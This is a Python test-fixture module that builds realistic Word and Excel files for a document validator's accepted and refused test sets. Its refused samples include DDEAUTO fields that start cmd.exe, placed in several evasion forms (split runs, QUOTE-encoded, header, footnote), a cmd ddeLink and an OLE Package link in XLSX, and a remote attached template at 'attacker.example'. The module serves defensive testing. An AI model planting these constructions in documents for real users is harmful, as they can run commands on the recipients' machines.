"""Office documents shaped the way real producers write them, for the validator's real-world tests.

Word, Excel and LibreOffice write things the minimal samples in ``office.py`` do not: charts whose
data is an embedded workbook under ``word/embeddings/`` (a whole XLSX package inside the DOCX),
fields split over several runs (``w:fldChar`` begin / ``w:instrText`` / separate / end), fields in
headers and footers, external links in ``xl/externalLinks/``, attached templates on a local disk.
Each builder here writes those structures as the producer does (part names, relationship types,
content types), so a rule that works on these files works on the producers' own files.

DDE builders make the payloads attackers use (``DDEAUTO c:\\windows\\system32\\cmd.exe``,
``ddeLink ddeService="cmd"``); nothing here runs them.
"""

from __future__ import annotations

from xml.sax.saxutils import escape, quoteattr

from .office import (
    CORE_TYPE,
    EXCEL_TYPES,
    OFFICE_DOCUMENT_REL,
    SETTINGS_REL,
    SETTINGS_TYPE,
    TEMPLATE_REL,
    WORD_TYPES,
    WORKSHEET_REL,
    WORKSHEET_TYPE,
    XML_DECLARATION,
    _content_types,
    _core_properties,
    _relationships,
    _zip,
    xlsx_bytes,
)

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
S_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
C_NS = "http://schemas.openxmlformats.org/drawingml/2006/chart"
A_NS = "http://schemas.openxmlformats.org/drawingml/2006/main"
WP_NS = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"
CHART_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/chart"
PACKAGE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/package"
HEADER_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/header"
FOOTNOTES_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/footnotes"
DRAWING_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/drawing"
EXTERNAL_LINK_REL = (
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink"
)
APP_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/extended-properties"
CORE_REL = "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties"
CHART_TYPE = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
DRAWING_TYPE = "application/vnd.openxmlformats-officedocument.drawing+xml"
HEADER_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
FOOTNOTES_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
EXTERNAL_LINK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
APP_TYPE = "application/vnd.openxmlformats-officedocument.extended-properties+xml"
XLSX_PART_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
LIBREOFFICE = (
    "LibreOffice/7.6.4.1$Linux_X86_64 LibreOffice_project/e19e193f88cd6c0525a17fb7a176ed8e6a3e2aa1"
)
DDE_COMMAND = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
DDE_PLACES = ("body", "split", "simple", "header", "footnote", "quote", "lowercase")


def _app_properties(application: str = LIBREOFFICE) -> str:
    return (
        XML_DECLARATION
        + '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
        'extended-properties"><Template></Template><TotalTime>1</TotalTime>'
        f"<Application>{escape(application)}</Application></Properties>"
    )


def _paragraph(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{escape(text)}</w:t></w:r></w:p>'


def _field_runs(instruction_parts: list[str], result: str) -> str:
    """A complex field as Word writes it: begin, one instrText run per part, separate, end."""
    runs = ['<w:r><w:fldChar w:fldCharType="begin"/></w:r>']
    runs += [
        f'<w:r><w:instrText xml:space="preserve">{escape(part)}</w:instrText></w:r>'
        for part in instruction_parts
    ]
    runs.append('<w:r><w:fldChar w:fldCharType="separate"/></w:r>')
    runs.append(f"<w:r><w:t>{escape(result)}</w:t></w:r>")
    runs.append('<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    return "".join(runs)


def _word_document(body: str) -> str:
    return (
        XML_DECLARATION
        + f'<w:document xmlns:w="{W_NS}" xmlns:r="{R_NS}" xmlns:wp="{WP_NS}" xmlns:a="{A_NS}"'
        f' xmlns:c="{C_NS}"><w:body>{body}<w:sectPr/></w:body></w:document>'
    )


def word_package(
    body: str,
    *,
    relationships: list[tuple[str, ...]] | None = None,
    parts: dict[str, bytes | str] | None = None,
    overrides: dict[str, str] | None = None,
    defaults: dict[str, str] | None = None,
    kind: str = "docx",
    application: str = LIBREOFFICE,
) -> bytes:
    """A DOCX as LibreOffice writes it: app/core properties, settings, the given extra parts."""
    all_overrides = {
        "/word/document.xml": WORD_TYPES[kind],
        "/word/settings.xml": SETTINGS_TYPE,
        "/docProps/core.xml": CORE_TYPE,
        "/docProps/app.xml": APP_TYPE,
        **(overrides or {}),
    }
    document_rels = [(SETTINGS_REL, "settings.xml"), *(relationships or [])]
    package: dict[str, bytes | str] = {
        "[Content_Types].xml": _content_types(all_overrides, defaults),
        "_rels/.rels": _relationships(
            [
                (OFFICE_DOCUMENT_REL, "word/document.xml"),
                (CORE_REL, "docProps/core.xml"),
                (APP_REL, "docProps/app.xml"),
            ]
        ),
        "docProps/app.xml": _app_properties(application),
        "docProps/core.xml": _core_properties("Талап қою арызы"),
        "word/document.xml": _word_document(body),
        "word/_rels/document.xml.rels": _relationships(document_rels),
        "word/settings.xml": XML_DECLARATION
        + f'<w:settings xmlns:w="{W_NS}" xmlns:r="{R_NS}"><w:zoom w:percent="100"/>'
        "</w:settings>",
    }
    package.update(parts or {})
    return _zip(package)


def _chart_part(title: str) -> str:
    """A bar chart whose cached values are in the part and whose data is the embedded workbook."""
    points = "".join(
        f'<c:pt idx="{index}"><c:v>{value}</c:v></c:pt>'
        for index, value in enumerate((12500, 8300, 4100))
    )
    return (
        XML_DECLARATION + f'<c:chartSpace xmlns:c="{C_NS}" xmlns:a="{A_NS}" xmlns:r="{R_NS}">'
        f"<c:chart><c:title><c:tx><c:rich><a:bodyPr/><a:p><a:r><a:t>{escape(title)}</a:t></a:r>"
        '</a:p></c:rich></c:tx></c:title><c:plotArea><c:barChart><c:barDir val="col"/>'
        '<c:ser><c:idx val="0"/><c:order val="0"/><c:val><c:numRef><c:f>Sheet1!$B$2:$B$4</c:f>'
        f'<c:numCache><c:ptCount val="3"/>{points}</c:numCache></c:numRef></c:val></c:ser>'
        '</c:barChart></c:plotArea></c:chart><c:externalData r:id="rId1">'
        '<c:autoUpdate val="0"/></c:externalData></c:chartSpace>'
    )


def _chart_drawing(relationship_id: str) -> str:
    return (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="5486400" cy="3200400"/>'
        '<wp:docPr id="1" name="Chart 1"/><a:graphic><a:graphicData'
        f' uri="{C_NS}"><c:chart r:id="{relationship_id}"/></a:graphicData></a:graphic>'
        "</wp:inline></w:drawing></w:r></w:p>"
    )


def chart_workbook(*, dde: bool = False, macro: bool = False) -> bytes:
    """The XLSX a chart embeds for its data (optionally carrying DDE or a macro: still refused)."""
    if dde:
        return xlsx_dde_bytes()
    return xlsx_bytes(macro=macro, rows=[["", "Сома"], ["2024", 12500], ["2025", 8300]])


def docx_with_chart(
    charts: int = 2, *, workbook: bytes | None = None, nested_workbook_depth: int = 0
) -> bytes:
    """A DOCX with ``charts`` bar charts, each with its data as ``word/embeddings/*.xlsx``.

    ``workbook`` replaces the embedded workbook (e.g. ``chart_workbook(dde=True)``).
    ``nested_workbook_depth`` wraps the document in that many more chart levels (for the
    depth limit).
    """
    inner = workbook if workbook is not None else chart_workbook()
    for _level in range(nested_workbook_depth):
        inner = docx_with_chart(1, workbook=inner)
    relationships: list[tuple[str, ...]] = []
    parts: dict[str, bytes | str] = {}
    overrides: dict[str, str] = {}
    body = _paragraph("Есеп айырысу / Расчёт иска")
    for number in range(1, charts + 1):
        suffix = "" if number == 1 else str(number - 1)
        workbook_name = f"Microsoft_Excel_Worksheet{suffix}.xlsx"
        relationships.append((CHART_REL, f"charts/chart{number}.xml"))
        rel_id = f"rId{len(relationships) + 1}"  # rId1 is settings
        overrides[f"/word/charts/chart{number}.xml"] = CHART_TYPE
        parts[f"word/charts/chart{number}.xml"] = _chart_part(f"Chart {number}")
        parts[f"word/charts/_rels/chart{number}.xml.rels"] = _relationships(
            [(PACKAGE_REL, f"../embeddings/{workbook_name}")]
        )
        parts[f"word/embeddings/{workbook_name}"] = inner
        body += _chart_drawing(rel_id)
    return word_package(
        body,
        relationships=relationships,
        parts=parts,
        overrides=overrides,
        defaults={"xlsx": XLSX_PART_TYPE},
    )


def xlsx_with_chart(*, embedded_workbook: bytes | None = None) -> bytes:
    """An XLSX with a drawing, a chart on the sheet's data and an embedded workbook object.

    LibreOffice and Excel keep an embedded spreadsheet object as ``xl/embeddings/*.xlsx``.
    """
    inner = embedded_workbook if embedded_workbook is not None else chart_workbook()
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>{year}</t></is></c>'
        f'<c r="B{n}"><v>{value}</v></c></row>'
        for n, (year, value) in enumerate((("2024", 12500), ("2025", 8300)), start=1)
    )
    overrides = {
        "/xl/workbook.xml": EXCEL_TYPES["xlsx"],
        "/xl/worksheets/sheet1.xml": WORKSHEET_TYPE,
        "/xl/drawings/drawing1.xml": DRAWING_TYPE,
        "/xl/charts/chart1.xml": CHART_TYPE,
        "/docProps/app.xml": APP_TYPE,
    }
    return _zip(
        {
            "[Content_Types].xml": _content_types(overrides, {"xlsx": XLSX_PART_TYPE}),
            "_rels/.rels": _relationships(
                [(OFFICE_DOCUMENT_REL, "xl/workbook.xml"), (APP_REL, "docProps/app.xml")]
            ),
            "docProps/app.xml": _app_properties(),
            "xl/workbook.xml": XML_DECLARATION
            + f'<workbook xmlns="{S_NS}" xmlns:r="{R_NS}"><sheets>'
            '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": _relationships(
                [(WORKSHEET_REL, "worksheets/sheet1.xml")]
            ),
            "xl/worksheets/sheet1.xml": XML_DECLARATION
            + f'<worksheet xmlns="{S_NS}" xmlns:r="{R_NS}"><sheetData>{rows}</sheetData>'
            '<drawing r:id="rId1"/></worksheet>',
            "xl/worksheets/_rels/sheet1.xml.rels": _relationships(
                [(DRAWING_REL, "../drawings/drawing1.xml")]
            ),
            "xl/drawings/drawing1.xml": XML_DECLARATION
            + '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/'
            f'spreadsheetDrawing" xmlns:a="{A_NS}" xmlns:r="{R_NS}" xmlns:c="{C_NS}">'
            '<xdr:absoluteAnchor><xdr:pos x="0" y="0"/><xdr:ext cx="5486400" cy="3200400"/>'
            '<xdr:graphicFrame><xdr:nvGraphicFramePr><xdr:cNvPr id="1" name="Chart 1"/>'
            "<xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr><xdr:xfrm/><a:graphic>"
            f'<a:graphicData uri="{C_NS}"><c:chart r:id="rId1"/></a:graphicData></a:graphic>'
            "</xdr:graphicFrame><xdr:clientData/></xdr:absoluteAnchor></xdr:wsDr>",
            "xl/drawings/_rels/drawing1.xml.rels": _relationships(
                [(CHART_REL, "../charts/chart1.xml")]
            ),
            "xl/charts/chart1.xml": _chart_part("Сомалар"),
            "xl/charts/_rels/chart1.xml.rels": _relationships(
                [(PACKAGE_REL, "../embeddings/Microsoft_Excel_Worksheet.xlsx")]
            ),
            "xl/embeddings/Microsoft_Excel_Worksheet.xlsx": inner,
        }
    )


def docx_dde_bytes(place: str = "body") -> bytes:
    """A DOCX with a DDEAUTO field that starts ``cmd.exe``, placed as attackers place it.

    ``place``: "body" (one instrText run), "split" (the instruction over three runs),
    "simple" (``w:fldSimple``), "header" (in a header part), "footnote" (in footnotes.xml),
    "quote" (``DDEAUTO`` spelt by a nested ``QUOTE 68 68 69 65 85 84 79`` field),
    "lowercase" (``ddeauto`` with leading blanks).
    """
    if place not in DDE_PLACES:
        raise ValueError(f"place must be one of {DDE_PLACES}")
    relationships: list[tuple[str, ...]] = []
    parts: dict[str, bytes | str] = {}
    overrides: dict[str, str] = {}
    field = _field_runs([DDE_COMMAND], "Жүктелуде")
    body = _paragraph("Талап қою арызы")
    if place == "body":
        body += f"<w:p>{field}</w:p>"
    elif place == "split":
        body += (
            "<w:p>"
            + _field_runs(["DDE", "AUTO c:\\\\windows\\\\system32\\\\", "cmd.exe"], "")
            + "</w:p>"
        )
    elif place == "simple":
        body += f"<w:p><w:fldSimple w:instr={quoteattr(DDE_COMMAND)}><w:r><w:t>1</w:t></w:r>"
        body += "</w:fldSimple></w:p>"
    elif place == "lowercase":
        body += "<w:p>" + _field_runs(['  ddeauto "c:\\\\windows\\\\cmd.exe"'], "") + "</w:p>"
    elif place == "quote":
        quoted = " ".join(str(ord(char)) for char in "DDEAUTO")
        nested = _field_runs([f"QUOTE {quoted}"], "DDEAUTO")
        body += (
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f"{nested}"
            '<w:r><w:instrText xml:space="preserve"> c:\\\\windows\\\\cmd.exe</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
    elif place == "header":
        relationships.append((HEADER_REL, "header1.xml"))
        overrides["/word/header1.xml"] = HEADER_TYPE
        parts["word/header1.xml"] = (
            XML_DECLARATION + f'<w:hdr xmlns:w="{W_NS}"><w:p>{field}</w:p></w:hdr>'
        )
    elif place == "footnote":
        relationships.append((FOOTNOTES_REL, "footnotes.xml"))
        overrides["/word/footnotes.xml"] = FOOTNOTES_TYPE
        parts["word/footnotes.xml"] = (
            XML_DECLARATION
            + f'<w:footnotes xmlns:w="{W_NS}"><w:footnote w:id="1"><w:p>{field}</w:p>'
            "</w:footnote></w:footnotes>"
        )
    return word_package(body, relationships=relationships, parts=parts, overrides=overrides)


def docx_with_fields() -> bytes:
    """Ordinary fields every court document has: PAGE, DATE, a TOC, a HYPERLINK (accepted)."""
    body = _paragraph("Мазмұны")
    body += "<w:p>" + _field_runs([' TOC \\o "1-3" \\h \\z \\u '], "1") + "</w:p>"
    body += "<w:p>" + _field_runs([" PAGE "], "1") + "</w:p>"
    body += "<w:p>" + _field_runs([' DATE \\@ "dd.MM.yyyy" '], "01.12.2026") + "</w:p>"
    body += "<w:p>" + _field_runs([' HYPERLINK "https://adilet.zan.kz/" '], "Әділет") + "</w:p>"
    body += '<w:p><w:fldSimple w:instr=" NUMPAGES "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
    return word_package(body)


def docx_with_template(target: str) -> bytes:
    """A DOCX whose settings name an attached template at ``target`` (external relationship).

    Word writes the author's template path: ``file:///C:\\Users\\...\\Normal.dotm`` locally, or
    whatever an attacker sets (``https://...``, ``\\\\host\\share\\t.dotm``).
    """
    return _zip(
        {
            "[Content_Types].xml": _content_types(
                {
                    "/word/document.xml": WORD_TYPES["docx"],
                    "/word/settings.xml": SETTINGS_TYPE,
                }
            ),
            "_rels/.rels": _relationships([(OFFICE_DOCUMENT_REL, "word/document.xml")]),
            "word/document.xml": _word_document(_paragraph("Шаблон")),
            "word/_rels/document.xml.rels": _relationships([(SETTINGS_REL, "settings.xml")]),
            "word/settings.xml": XML_DECLARATION
            + f'<w:settings xmlns:w="{W_NS}" xmlns:r="{R_NS}"><w:attachedTemplate r:id="rId1"/>'
            "</w:settings>",
            "word/_rels/settings.xml.rels": _relationships([(TEMPLATE_REL, target, "External")]),
        }
    )


def docm_without_macros() -> bytes:
    """A macro-enabled document type (.docm) that holds no macro: saved as .docm, macros deleted."""
    return word_package(_paragraph("Макроссыз құжат"), kind="docm")


def xlsx_dde_bytes(*, ole: bool = False) -> bytes:
    """An XLSX whose cell is ``=cmd|'/c calc.exe'!A1``: Excel stores it as a ``ddeLink``.

    ``ole=True`` writes the sibling form instead, an ``oleLink`` to a ``Package`` OLE server.
    """
    if ole:
        link = (
            f'<oleLink xmlns:r="{R_NS}" r:id="rId1" progId="Package"><oleItems>'
            '<oleItem name="payload" advise="1"/></oleItems></oleLink>'
        )
    else:
        link = (
            '<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems>'
            '<ddeItem name="_xlbgnm.A1" advise="1"/>'
            '<ddeItem name="StdDocumentName" ole="1" advise="1"/></ddeItems></ddeLink>'
        )
    overrides = {
        "/xl/workbook.xml": EXCEL_TYPES["xlsx"],
        "/xl/worksheets/sheet1.xml": WORKSHEET_TYPE,
        "/xl/externalLinks/externalLink1.xml": EXTERNAL_LINK_TYPE,
    }
    return _zip(
        {
            "[Content_Types].xml": _content_types(overrides),
            "_rels/.rels": _relationships([(OFFICE_DOCUMENT_REL, "xl/workbook.xml")]),
            "xl/workbook.xml": XML_DECLARATION
            + f'<workbook xmlns="{S_NS}" xmlns:r="{R_NS}"><sheets>'
            '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>'
            '<externalReferences><externalReference r:id="rId2"/></externalReferences>'
            "</workbook>",
            "xl/_rels/workbook.xml.rels": _relationships(
                [
                    (WORKSHEET_REL, "worksheets/sheet1.xml"),
                    (EXTERNAL_LINK_REL, "externalLinks/externalLink1.xml"),
                ]
            ),
            "xl/worksheets/sheet1.xml": XML_DECLARATION
            + f'<worksheet xmlns="{S_NS}"><sheetData><row r="1"><c r="A1">'
            "<f>[1]!_xlbgnm.A1</f><v>0</v></c></row></sheetData></worksheet>",
            "xl/externalLinks/externalLink1.xml": XML_DECLARATION
            + f'<externalLink xmlns="{S_NS}">{link}</externalLink>',
        }
    )


def real_producer_set() -> list[tuple[str, bytes, str, list[str]]]:
    """Every real-producer sample with its expected verdict: (name, bytes, format, error codes).

    The set the README's "Documents we accept" table is tested on; an empty list of codes means
    accepted. PDFs and compound files come from ``pdf.py`` and ``cfb.py``.
    """
    from . import cfb, pdf  # the sibling builders (no import cycle at module load)

    accepted: list[tuple[str, bytes, str]] = [
        ("libreoffice-docx-with-charts", docx_with_chart(), "docx"),
        ("libreoffice-xlsx-with-chart", xlsx_with_chart(), "xlsx"),
        ("docx-ordinary-fields", docx_with_fields(), "docx"),
        ("docx-local-template", docx_with_template("file:///C:\\Templates\\Normal.dotm"), "docx"),
        ("docm-without-macros", docm_without_macros(), "docx"),
        ("word-6.0", cfb.word6_doc_bytes(version="6.0"), "doc"),
        ("word-95", cfb.word6_doc_bytes(version="95"), "doc"),
        ("doc-ordinary-fields", cfb.doc_with_fields_bytes(), "doc"),
        ("doc-with-excel-chart-object", cfb.doc_with_embedded_workbook(), "doc"),
        ("xls-linked-workbook", cfb.xls_bytes(linked_workbook=True), "xls"),
        ("acrobat-incremental-update", pdf.incremental_update_pdf(), "pdf"),
        ("pdf-dangling-references", pdf.dangling_reference_pdf(), "pdf"),
        ("scanner-trailing-junk", pdf.trailing_junk_pdf(), "pdf"),
        ("pdf-broken-xref", pdf.broken_xref_pdf(), "pdf"),
        ("pdf-empty-password", pdf.empty_password_pdf(), "pdf"),
    ]
    refused: list[tuple[str, bytes, str, str]] = [
        *(
            (f"docx-dde-{place}", docx_dde_bytes(place), "docx", "active_content")
            for place in DDE_PLACES
        ),
        ("xlsx-dde-link", xlsx_dde_bytes(), "xlsx", "active_content"),
        ("xlsx-ole-link", xlsx_dde_bytes(ole=True), "xlsx", "active_content"),
        ("doc-dde", cfb.doc_dde_bytes(), "doc", "active_content"),
        ("doc-dde-fast-saved", cfb.doc_dde_bytes(fast_saved=True), "doc", "active_content"),
        ("doc-dde-quote", cfb.doc_dde_bytes(quoted=True), "doc", "active_content"),
        ("xls-dde", cfb.xls_bytes(dde=True), "xls", "active_content"),
        (
            "doc-chart-object-with-dde",
            cfb.doc_with_embedded_workbook(dde=True),
            "doc",
            "active_content",
        ),
        ("word-95-template", cfb.word6_doc_bytes(template=True), "doc", "active_content"),
        ("word-95-dde", cfb.word6_doc_bytes(dde=True), "doc", "active_content"),
        (
            "docx-chart-with-dde-workbook",
            docx_with_chart(1, workbook=chart_workbook(dde=True)),
            "docx",
            "active_content",
        ),
        (
            "docx-remote-template",
            docx_with_template("https://attacker.example/t.dotm"),
            "docx",
            "active_content",
        ),
        ("pdf-truncated", pdf.truncated_pdf(), "pdf", "corrupt"),
        (
            "pdf-forbids-printing",
            pdf.empty_password_pdf(allow_print=False),
            "pdf",
            "encrypted",
        ),
    ]
    return [(name, data, fmt, []) for name, data, fmt in accepted] + [
        (name, data, fmt, [code]) for name, data, fmt, code in refused
    ]
